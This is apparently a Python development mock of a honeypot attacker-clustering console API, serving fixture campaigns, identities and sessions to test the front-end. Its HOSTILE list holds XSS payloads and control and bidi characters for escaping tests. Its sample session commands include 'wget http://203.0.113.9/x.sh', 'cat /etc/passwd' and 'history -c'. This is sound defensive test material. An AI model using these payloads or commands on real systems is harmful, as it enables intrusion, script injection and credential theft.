#!/usr/bin/env python3
"""DEVELOPMENT ONLY: a mock of the clusterd console API.

Not part of the product and never served by the daemon. It serves the
console's assets from the directory above and deterministic fixture JSON in
the shapes of docs/console-api.md, so the front-end can be looked at and
tested without Redis or the daemon:

  * about a hundred campaigns for the ranked, paged list;
  * one campaign of 500 identities (to check the graph and timeline fold);
  * one campaign whose every attacker-supplied string is hostile (script
    tags, quotes, control and bidi characters, very long values);
  * /api/events, server-sent events that publish a few changes.

    python3 mock_api.py [--port 8765]

Listens on 127.0.0.1 only. Python standard library only.
"""

import argparse
import json
import random
import threading
import time
import uuid as uuidlib
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

ASSETS = Path(__file__).resolve().parent.parent
RNG = random.Random(20260101)
T0 = datetime(2026, 1, 1, 3, 0, 0, tzinfo=timezone.utc)

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' x='",
    "ctrl\x1b[31mred\x07bell\x00nul\x08bs",
    "rtl\u202egnp.exe\u202c zero\u200bwidth",
    "javascript:alert(4)",
    "</textarea></title><svg/onload=alert(5)>",
    "L" + "o" * 2500 + "ng",
]
PHASE_PAIRS = [
    ("reconnaissance", "reconnaissance"), ("delivery", "exploitation"),
    ("exploitation", "persistence"), ("persistence", "command_and_control"),
    ("discovery", "discovery"), ("discovery", "lateral_movement"),
    ("lateral_movement", "collection"), ("collection", "exfiltration"),
    ("credential_access", "privilege_escalation"), ("execution", "impact"),
]
TOOLING = ["paramiko 3.4", "libssh 0.10", "golang x/crypto", "OpenSSH 9.6", "masscan", "zgrab2", "curl 8.5", "python-requests"]
COMMANDS = ["whoami", "uname -a", "cat /etc/passwd", "id", "wget http://203.0.113.9/x.sh", "crontab -l",
            "ps aux", "curl -s ifconfig.me", "history -c", "ls -la /root/.ssh"]


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ") if t else None


def new_uuid():
    return str(uuidlib.UUID(int=RNG.getrandbits(128), version=4))


class World:
    def __init__(self):
        self.obs, self.ids, self.camps = {}, {}, {}
        self.merged_ids, self.merged_camps = {}, {}
        self.lock = threading.Lock()
        self.deckies = [f"decky-{i:02d}" for i in range(1, 19)]
        self.build()

    # -------------------------------------------------------------- fixtures
    def make_obs(self, identity, hostile=False, base=None):
        uuid = "att-" + new_uuid()[:13] if not hostile else None
        if hostile:
            uuid = 'att-"><svg onload=alert(9)>' if not any(o.startswith('att-"') for o in self.obs) else "att-" + new_uuid()[:13]
        ip = f"198.51.{RNG.randint(0, 255)}.{RNG.randint(1, 254)}"
        asn = RNG.choice([64512, 64513, 14061, 16509, 24940, 9009, 396982])
        start = (base or T0) + timedelta(minutes=RNG.randint(0, 60 * 24 * 6))
        sessions = []
        for k in range(RNG.randint(1, 3)):
            st = start + timedelta(minutes=RNG.randint(0, 600) + k * 700)
            en = st + timedelta(seconds=RNG.randint(20, 5400))
            first, last = RNG.choice(PHASE_PAIRS)
            source = RNG.choice(["sensor", "inferred", "inferred"])
            decky = RNG.choice(identity["home_deckies"])
            cmds = RNG.sample(COMMANDS, RNG.randint(1, 5))
            creds = [["root", RNG.choice(["toor", "123456", "admin"])]]
            sess = {
                "session_id": "s-" + new_uuid()[:10], "decky_id": decky,
                "started_at": iso(st), "ended_at": iso(en),
                "first_phase": first, "last_phase": last, "phase_source": source,
                "commands": cmds, "credentials": creds,
                "payload_hashes": [identity["payload"]] if RNG.random() < 0.5 else [],
                "c2_endpoints": [identity["c2"]] if RNG.random() < 0.4 else [],
                "auth_key": None, "planted_keys": [],
            }
            if hostile:
                sess["decky_id"] = RNG.choice(identity["home_deckies"])
                sess["commands"] = cmds + HOSTILE
                sess["credentials"] = [[HOSTILE[0], HOSTILE[1]], [HOSTILE[3], HOSTILE[7]], ["root", "toor"]]
                sess["payload_hashes"] = [HOSTILE[2]]
                sess["c2_endpoints"] = [HOSTILE[5], HOSTILE[6]]
                sess["auth_key"] = "SHA256:" + HOSTILE[4]
                sess["planted_keys"] = ["SHA256:" + HOSTILE[0], "SHA256:" + HOSTILE[7]]
                sess["session_id"] = "s-" + HOSTILE[1]
            if RNG.random() < 0.1:
                sess["first_phase"] = sess["last_phase"] = sess["phase_source"] = None
            sessions.append(sess)
        fps = [{"kind": "ja3", "value": identity["ja3"]}, {"kind": "hassh", "value": identity["hassh"]}]
        if hostile:
            fps += [{"kind": "ssh_client_version", "value": HOSTILE[i]} for i in range(len(HOSTILE))]
            fps.append({"kind": HOSTILE[0], "value": "kind itself is hostile"})
        times = [s["started_at"] for s in sessions] + [s["ended_at"] for s in sessions]
        o = {
            "uuid": uuid, "ip": ip if not hostile else (ip if RNG.random() < 0.5 else HOSTILE[0]),
            "asn": asn, "first_seen": min(times), "last_seen": max(times),
            "identity_uuid": identity["uuid"], "campaign_uuid": identity["campaign_id"],
            "fingerprints": fps, "sessions": sessions,
        }
        self.obs[uuid] = o
        identity["members"].append(uuid)
        return o

    def make_identity(self, campaign, n_obs, hostile=False, base=None):
        ident = {
            "uuid": new_uuid(), "campaign_id": campaign["uuid"] if campaign else None, "members": [],
            "home_deckies": RNG.sample(campaign["deckies"] if campaign else self.deckies, min(2, len(campaign["deckies"]) if campaign else 2)),
            "ja3": "%032x" % RNG.getrandbits(128), "hassh": "%032x" % RNG.getrandbits(128),
            "payload": "%064x" % RNG.getrandbits(256), "c2": f"c2-{RNG.randint(1, 999)}.example.net",
            "tooling": RNG.sample(TOOLING, RNG.randint(1, 2)), "confidence": round(RNG.uniform(0.3, 1.0), 4),
            "simhash": "%016x" % RNG.getrandbits(64), "merged_from": [],
        }
        if hostile:
            ident["tooling"] = [HOSTILE[0], HOSTILE[3], HOSTILE[7]]
            ident["ja3"] = HOSTILE[1]
            ident["c2"] = HOSTILE[5]
        self.ids[ident["uuid"]] = ident
        for _ in range(n_obs):
            self.make_obs(ident, hostile=hostile, base=base)
        if campaign:
            campaign["identities"].append(ident["uuid"])
        return ident

    def signal(self, a, b, hostile=False):
        kind = RNG.choices(["handoff", "infrastructure", "rhythm", "planted_key", "overlap", "cohort"],
                           [4, 3, 2, 1, 3, 3])[0]
        decky = RNG.choice(self.ids[a]["home_deckies"])
        if kind == "handoff":
            detail = {"decky": decky, "from_phase": RNG.choice(["persistence", "command_and_control"]),
                      "to_phase": RNG.choice(["discovery", "lateral_movement"])}
            w = round(RNG.uniform(0.5, 1.0), 3)
        elif kind == "infrastructure":
            detail = {"values": [self.ids[a]["payload"], self.ids[a]["c2"]] if not hostile else HOSTILE[:3]}
            w = round(RNG.uniform(0.3, 1.0), 3)
        elif kind == "rhythm":
            bits = RNG.randint(0, 7)
            detail = {"bits": bits}
            w = round(0.6 * (1 - bits / 8), 3)
        elif kind == "planted_key":
            detail = {"decky": decky, "values": ["SHA256:" + ("%043x" % RNG.getrandbits(172))[:43]]}
            w = 1.0
        elif kind == "overlap":
            detail = {}
            w = round(RNG.uniform(0.05, 0.4), 3)
        else:
            detail = {"values": ["AS64512", decky]}
            w = round(RNG.uniform(0.02, 0.1), 3)
        if hostile and kind in ("handoff", "planted_key"):
            detail["decky"] = HOSTILE[0]
        return {"signal": kind, "weight": w, "detail": detail}

    def make_campaign(self, n_ids, obs_range=(1, 4), hostile=False, deckies=None, extra_edges=0.5):
        base = T0 + timedelta(days=RNG.randint(0, 40))
        camp = {"uuid": new_uuid(), "identities": [], "edges": [],
                "deckies": deckies or RNG.sample(self.deckies, RNG.randint(1, 4)),
                "confidence": round(RNG.uniform(0.2, 0.95), 4), "created_at": iso(base)}
        self.camps[camp["uuid"]] = camp
        for _ in range(n_ids):
            self.make_identity(camp, RNG.randint(*obs_range), hostile=hostile, base=base)
        ids = camp["identities"]
        pairs = set()
        for k in range(1, len(ids)):
            # Preferential attachment: a few hubs collect many links.
            j = min(int(RNG.paretovariate(1.2)) - 1, k - 1)
            pairs.add((ids[j], ids[k]))
        for _ in range(int(len(ids) * extra_edges)):
            a, b = RNG.sample(ids, 2) if len(ids) > 1 else (None, None)
            if a:
                pairs.add((a, b))
        for a, b in sorted(pairs):
            sigs = [self.signal(a, b, hostile) for _ in range(RNG.randint(1, 3))]
            uniq = {}
            for sg in sigs:
                uniq.setdefault(sg["signal"], sg)
            sigs = sorted(uniq.values(), key=lambda s: -s["weight"])
            camp["edges"].append({"a": a, "b": b, "weight": round(sum(s["weight"] for s in sigs), 3), "signals": sigs})
        return camp

    def build(self):
        self.big = self.make_campaign(500, obs_range=(1, 5), deckies=self.deckies[:14], extra_edges=0.6)
        self.hostile = self.make_campaign(5, obs_range=(2, 3), hostile=True, deckies=[self.deckies[0], HOSTILE[0]])
        for _ in range(110):
            self.make_campaign(RNG.choice([2, 2, 2, 3, 3, 4, 5, 6, 8, 12]))
        # A merged-out identity and campaign, followed to their winners.
        loser = new_uuid()
        winner = self.hostile["identities"][0]
        self.ids[winner]["merged_from"].append(loser)
        self.merged_ids[loser] = winner
        self.merged_camps[new_uuid()] = self.big["uuid"]
        # Identities with no campaign yet.
        for _ in range(4):
            self.make_identity(None, 2)

    # ---------------------------------------------------------------- shapes
    def identity_summary(self, uuid):
        i = self.ids[uuid]
        obs = [self.obs[m] for m in i["members"]]
        ips = sorted({o["ip"] for o in obs})
        return {
            "uuid": uuid, "observation_count": len(obs), "confidence": i["confidence"],
            "first_seen_at": min(o["first_seen"] for o in obs), "last_seen_at": max(o["last_seen"] for o in obs),
            "ips": ips[:10], "ip_count": len(ips), "asns": sorted({o["asn"] for o in obs}),
            "tooling": i["tooling"], "campaign_id": i["campaign_id"],
        }

    def campaign_summary(self, uuid):
        c = self.camps[uuid]
        sums = [self.identity_summary(i) for i in c["identities"]]
        counts = {k: 0 for k in ["handoff", "infrastructure", "rhythm", "planted_key", "overlap", "cohort"]}
        for e in c["edges"]:
            for s in e["signals"]:
                counts[s["signal"]] += 1
        deckies = sorted({s["decky_id"] for i in c["identities"] for m in self.ids[i]["members"] for s in self.obs[m]["sessions"]})
        return {
            "uuid": uuid, "identity_count": len(sums), "observation_count": sum(s["observation_count"] for s in sums),
            "confidence": c["confidence"], "first_seen_at": min(s["first_seen_at"] for s in sums),
            "last_seen_at": max(s["last_seen_at"] for s in sums), "created_at": c["created_at"],
            "updated_at": max(s["last_seen_at"] for s in sums), "deckies": deckies, "signals": counts,
        }

    def campaign_detail(self, uuid):
        c = self.camps[uuid]
        timeline = []
        for i in c["identities"]:
            rows = {}
            for m in self.ids[i]["members"]:
                for s in self.obs[m]["sessions"]:
                    rows.setdefault(s["decky_id"], []).append({k: s[k] for k in ("started_at", "ended_at", "first_phase", "last_phase", "phase_source")})
            for d in sorted(rows):
                timeline.append({"identity_uuid": i, "decky_id": d, "sessions": sorted(rows[d], key=lambda x: x["started_at"])})
        return {"campaign": self.campaign_summary(uuid), "identities": [self.identity_summary(i) for i in c["identities"]],
                "edges": c["edges"], "timeline": timeline}

    def identity_detail(self, uuid):
        i = self.ids[uuid]
        obs = [self.obs[m] for m in i["members"]]
        summary = self.identity_summary(uuid)
        summary.update({
            "ja3_hashes": sorted({f["value"] for o in obs for f in o["fingerprints"] if f["kind"] == "ja3"}),
            "hassh_hashes": sorted({f["value"] for o in obs for f in o["fingerprints"] if f["kind"] == "hassh"}),
            "payload_hashes": sorted({p for o in obs for s in o["sessions"] for p in s["payload_hashes"]}),
            "c2_endpoints": sorted({p for o in obs for s in o["sessions"] for p in s["c2_endpoints"]}),
            "deckies": sorted({s["decky_id"] for o in obs for s in o["sessions"]}),
            "kd_digraph_simhash": i["simhash"], "merged_from": i["merged_from"],
        })
        members = []
        for k, o in enumerate(obs):
            why = None
            if len(obs) > 1:
                partner = obs[k - 1 if k else 1]
                sigs = [{"signal": "ja3", "weight": 1.0, "values": [i["ja3"]]},
                        {"signal": "commands", "weight": round(RNG.uniform(0.1, 0.6), 3), "values": o["sessions"][0]["commands"][:3]},
                        {"signal": "asn", "weight": 0.05, "values": [f"AS{o['asn']}"]}]
                why = {"partner_uuid": partner["uuid"], "weight": round(sum(s["weight"] for s in sigs), 3), "signals": sigs}
            members.append({"uuid": o["uuid"], "ip": o["ip"], "asn": o["asn"], "first_seen": o["first_seen"],
                            "last_seen": o["last_seen"], "why": why})
        return {"identity": summary, "members": members}

    def obs_summary(self, o):
        return {k: o[k] for k in ("uuid", "ip", "asn", "first_seen", "last_seen", "identity_uuid", "campaign_uuid")}

    def search(self, q):
        ql = q.strip().lower()
        out = []
        if not ql:
            return out
        for kind, table in (("campaign", self.camps), ("identity", self.ids), ("observation", self.obs)):
            for u in table:
                if len(ql) >= 4 and u.lower().startswith(ql):
                    label = {"campaign": lambda: f"{len(self.camps[u]['identities'])} identities",
                             "identity": lambda: f"{len(self.ids[u]['members'])} observations",
                             "observation": lambda: f"{self.obs[u]['ip']} AS{self.obs[u]['asn']}"}[kind]()
                    out.append({"kind": kind, "uuid": u, "label": label})
        asn = ql[2:] if ql.startswith("as") else ql
        for o in self.obs.values():
            hit = o["ip"].lower() == ql or (asn.isdigit() and str(o["asn"]) == asn) or any(f["value"].lower() == ql for f in o["fingerprints"])
            if hit:
                out.append({"kind": "observation", "uuid": o["uuid"], "label": f"{o['ip']} AS{o['asn']} {o['last_seen']}"})
        return out[:50]


WORLD = World()


class Handler(BaseHTTPRequestHandler):
    server_version = "clusterd-mock"

    def log_message(self, fmt, *args):
        pass

    def send_json(self, obj, status=200):
        body = json.dumps(obj).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def send_file(self, path, ctype):
        body = path.read_bytes()
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Content-Security-Policy", "default-src 'self'")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        url = urlsplit(self.path)
        path, qs = url.path, {k: v[-1] for k, v in parse_qs(url.query).items()}
        if path == "/assets/app.js":
            return self.send_file(ASSETS / "app.js", "text/javascript; charset=utf-8")
        if path == "/assets/favicon.svg":
            return self.send_file(ASSETS / "favicon.svg", "image/svg+xml")
        if path == "/assets/style.css":
            return self.send_file(ASSETS / "style.css", "text/css; charset=utf-8")
        if path == "/" or path == "/search" or path.split("/")[1] in ("campaigns", "identities", "observations"):
            return self.send_file(ASSETS / "index.html", "text/html; charset=utf-8")
        if path == "/api/events":
            return self.events()
        if not path.startswith("/api/"):
            return self.send_json({"error": "not found"}, 404)
        w = WORLD
        parts = [unquote(p) for p in path.split("/")[2:]]
        with w.lock:
            if parts == ["overview"]:
                now = iso(datetime.now(timezone.utc))
                workers = [{"worker": n, "instance_id": "i-1", "pid": 4242, "host": "sensor-hub", "version": "0.9.0", "ts": now,
                            "uptime_s": 3605, "state": st, "restarts": r, **extra}
                           for n, st, r, extra in [("clusterd", "running", 0, {}), ("bus-ingest", "running", 0, {"ingested": 120034, "dead_lettered": 7, "lag": 12}),
                                                   ("clusterer", "running", 1, {"ticks": 811, "last_tick_ms": 42, "dirty": 3}),
                                                   ("campaign-clusterer", "running", 0, {"ticks": 811, "last_tick_ms": 118, "dirty": 0}),
                                                   ("publisher", "running", 0, {}), ("control", "standby", 0, {})]]
                return self.send_json({"observations": len(w.obs), "identities": len(w.ids), "campaigns": len(w.camps),
                                       "leader": "sensor-hub/4242", "workers": workers})
            if parts == ["campaigns"]:
                offset, limit = int(qs.get("offset", 0)), min(200, int(qs.get("limit", 50)))
                items = sorted((w.campaign_summary(u) for u in w.camps), key=lambda c: (-c["identity_count"], c["last_seen_at"]), reverse=False)
                items.sort(key=lambda c: c["last_seen_at"], reverse=True)
                items.sort(key=lambda c: c["identity_count"], reverse=True)
                return self.send_json({"total": len(items), "offset": offset, "limit": limit, "items": items[offset:offset + limit]})
            if len(parts) == 2 and parts[0] == "campaigns":
                u = parts[1]
                followed = None
                if u in w.merged_camps:
                    followed, u = u, w.merged_camps[u]
                if u not in w.camps:
                    return self.send_json({"error": f"no campaign {u}"}, 404)
                d = w.campaign_detail(u)
                if followed:
                    d["followed_from"] = followed
                return self.send_json(d)
            if len(parts) == 2 and parts[0] == "identities":
                u = parts[1]
                followed = None
                if u in w.merged_ids:
                    followed, u = u, w.merged_ids[u]
                if u not in w.ids:
                    return self.send_json({"error": f"no identity {u}"}, 404)
                d = w.identity_detail(u)
                if followed:
                    d["followed_from"] = followed
                return self.send_json(d)
            if parts == ["observations"]:
                items = [w.obs_summary(o) for o in w.obs.values()
                         if (not qs.get("ip") or o["ip"] == qs["ip"]) and (not qs.get("asn") or str(o["asn"]) == qs["asn"])
                         and (not qs.get("fingerprint") or any(f["value"] == qs["fingerprint"] for f in o["fingerprints"]))
                         and (not qs.get("decky") or any(s["decky_id"] == qs["decky"] for s in o["sessions"]))]
                return self.send_json({"items": items[:int(qs.get("limit", 100))]})
            if len(parts) == 2 and parts[0] == "observations":
                o = w.obs.get(parts[1])
                if not o:
                    return self.send_json({"error": f"no observation {parts[1]}"}, 404)
                full = w.obs_summary(o)
                full.update({"fingerprints": o["fingerprints"], "sessions": o["sessions"]})
                return self.send_json({"observation": full})
            if parts == ["search"]:
                q = qs.get("q", "")
                return self.send_json({"query": q, "matches": w.search(q)})
            if parts == ["explain"]:
                a, b = qs.get("a"), qs.get("b")
                level = "identity" if a in w.obs else "campaign"
                if (a not in w.obs and a not in w.ids) or (b not in w.obs and b not in w.ids):
                    return self.send_json({"error": "explain needs two observations or two identities"}, 404)
                return self.send_json({"a": a, "b": b, "level": level, "verdict": "linked", "weight": 1.35, "threshold": 1.0,
                                       "signals": [{"signal": "ja3", "weight": 1.0, "values": [HOSTILE[1]]},
                                                   {"signal": "commands", "weight": 0.3, "values": ["whoami", HOSTILE[0]]},
                                                   {"signal": "asn", "weight": 0.05, "values": ["AS64512"]}],
                                       "notes": ["hassh agrees but is a known library default: weighed 0.1", HOSTILE[3]]})
        return self.send_json({"error": f"unknown endpoint {path}"}, 404)

    def events(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        w = WORLD
        big = w.big["identities"]
        script = [
            ("identity", "identity.observation.linked", {"identity_uuid": big[0], "observation_uuid": w.ids[big[0]]["members"][0],
                                                         "prior_identity_uuid": None, "confidence_after": 0.9132}),
            ("campaign", "campaign.identity.assigned", {"campaign_uuid": w.big["uuid"], "identity_uuid": big[3], "prior_campaign_uuid": None}),
            ("identity", "identity.merged", {"winner_uuid": big[1], "loser_uuid": big[2], "observation_uuids": w.ids[big[2]]["members"],
                                             "confidence_after": 0.771}),
            ("identity", "identity.formed", {"identity_uuid": HOSTILE[0], "observation_uuids": [HOSTILE[1]], "confidence": 0.5,
                                             "first_seen_at": iso(T0)}),
            ("campaign", "campaign.formed", {"campaign_uuid": w.hostile["uuid"], "identity_uuids": w.hostile["identities"]}),
        ]
        try:
            self.wfile.write(b"retry: 3000\n\n")
            self.wfile.flush()
            for n, (stream, topic, payload) in enumerate(script):
                time.sleep(0.4)
                msg = {"stream": stream, "topic": topic, "event_id": f"1767236400000-{n}",
                       "ts": iso(datetime.now(timezone.utc)), "payload": payload}
                self.wfile.write(f"id: {msg['event_id']}\ndata: {json.dumps(msg)}\n\n".encode())
                self.wfile.flush()
            while True:
                time.sleep(15)
                self.wfile.write(b": keep-alive\n\n")
                self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            return


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--port", type=int, default=8765)
    args = ap.parse_args()
    srv = ThreadingHTTPServer(("127.0.0.1", args.port), Handler)
    srv.daemon_threads = True
    big = WORLD.big["uuid"]
    print(f"dev mock on http://127.0.0.1:{args.port}/  big campaign /campaigns/{big}  hostile /campaigns/{WORLD.hostile['uuid']}", flush=True)
    srv.serve_forever()


if __name__ == "__main__":
    main()
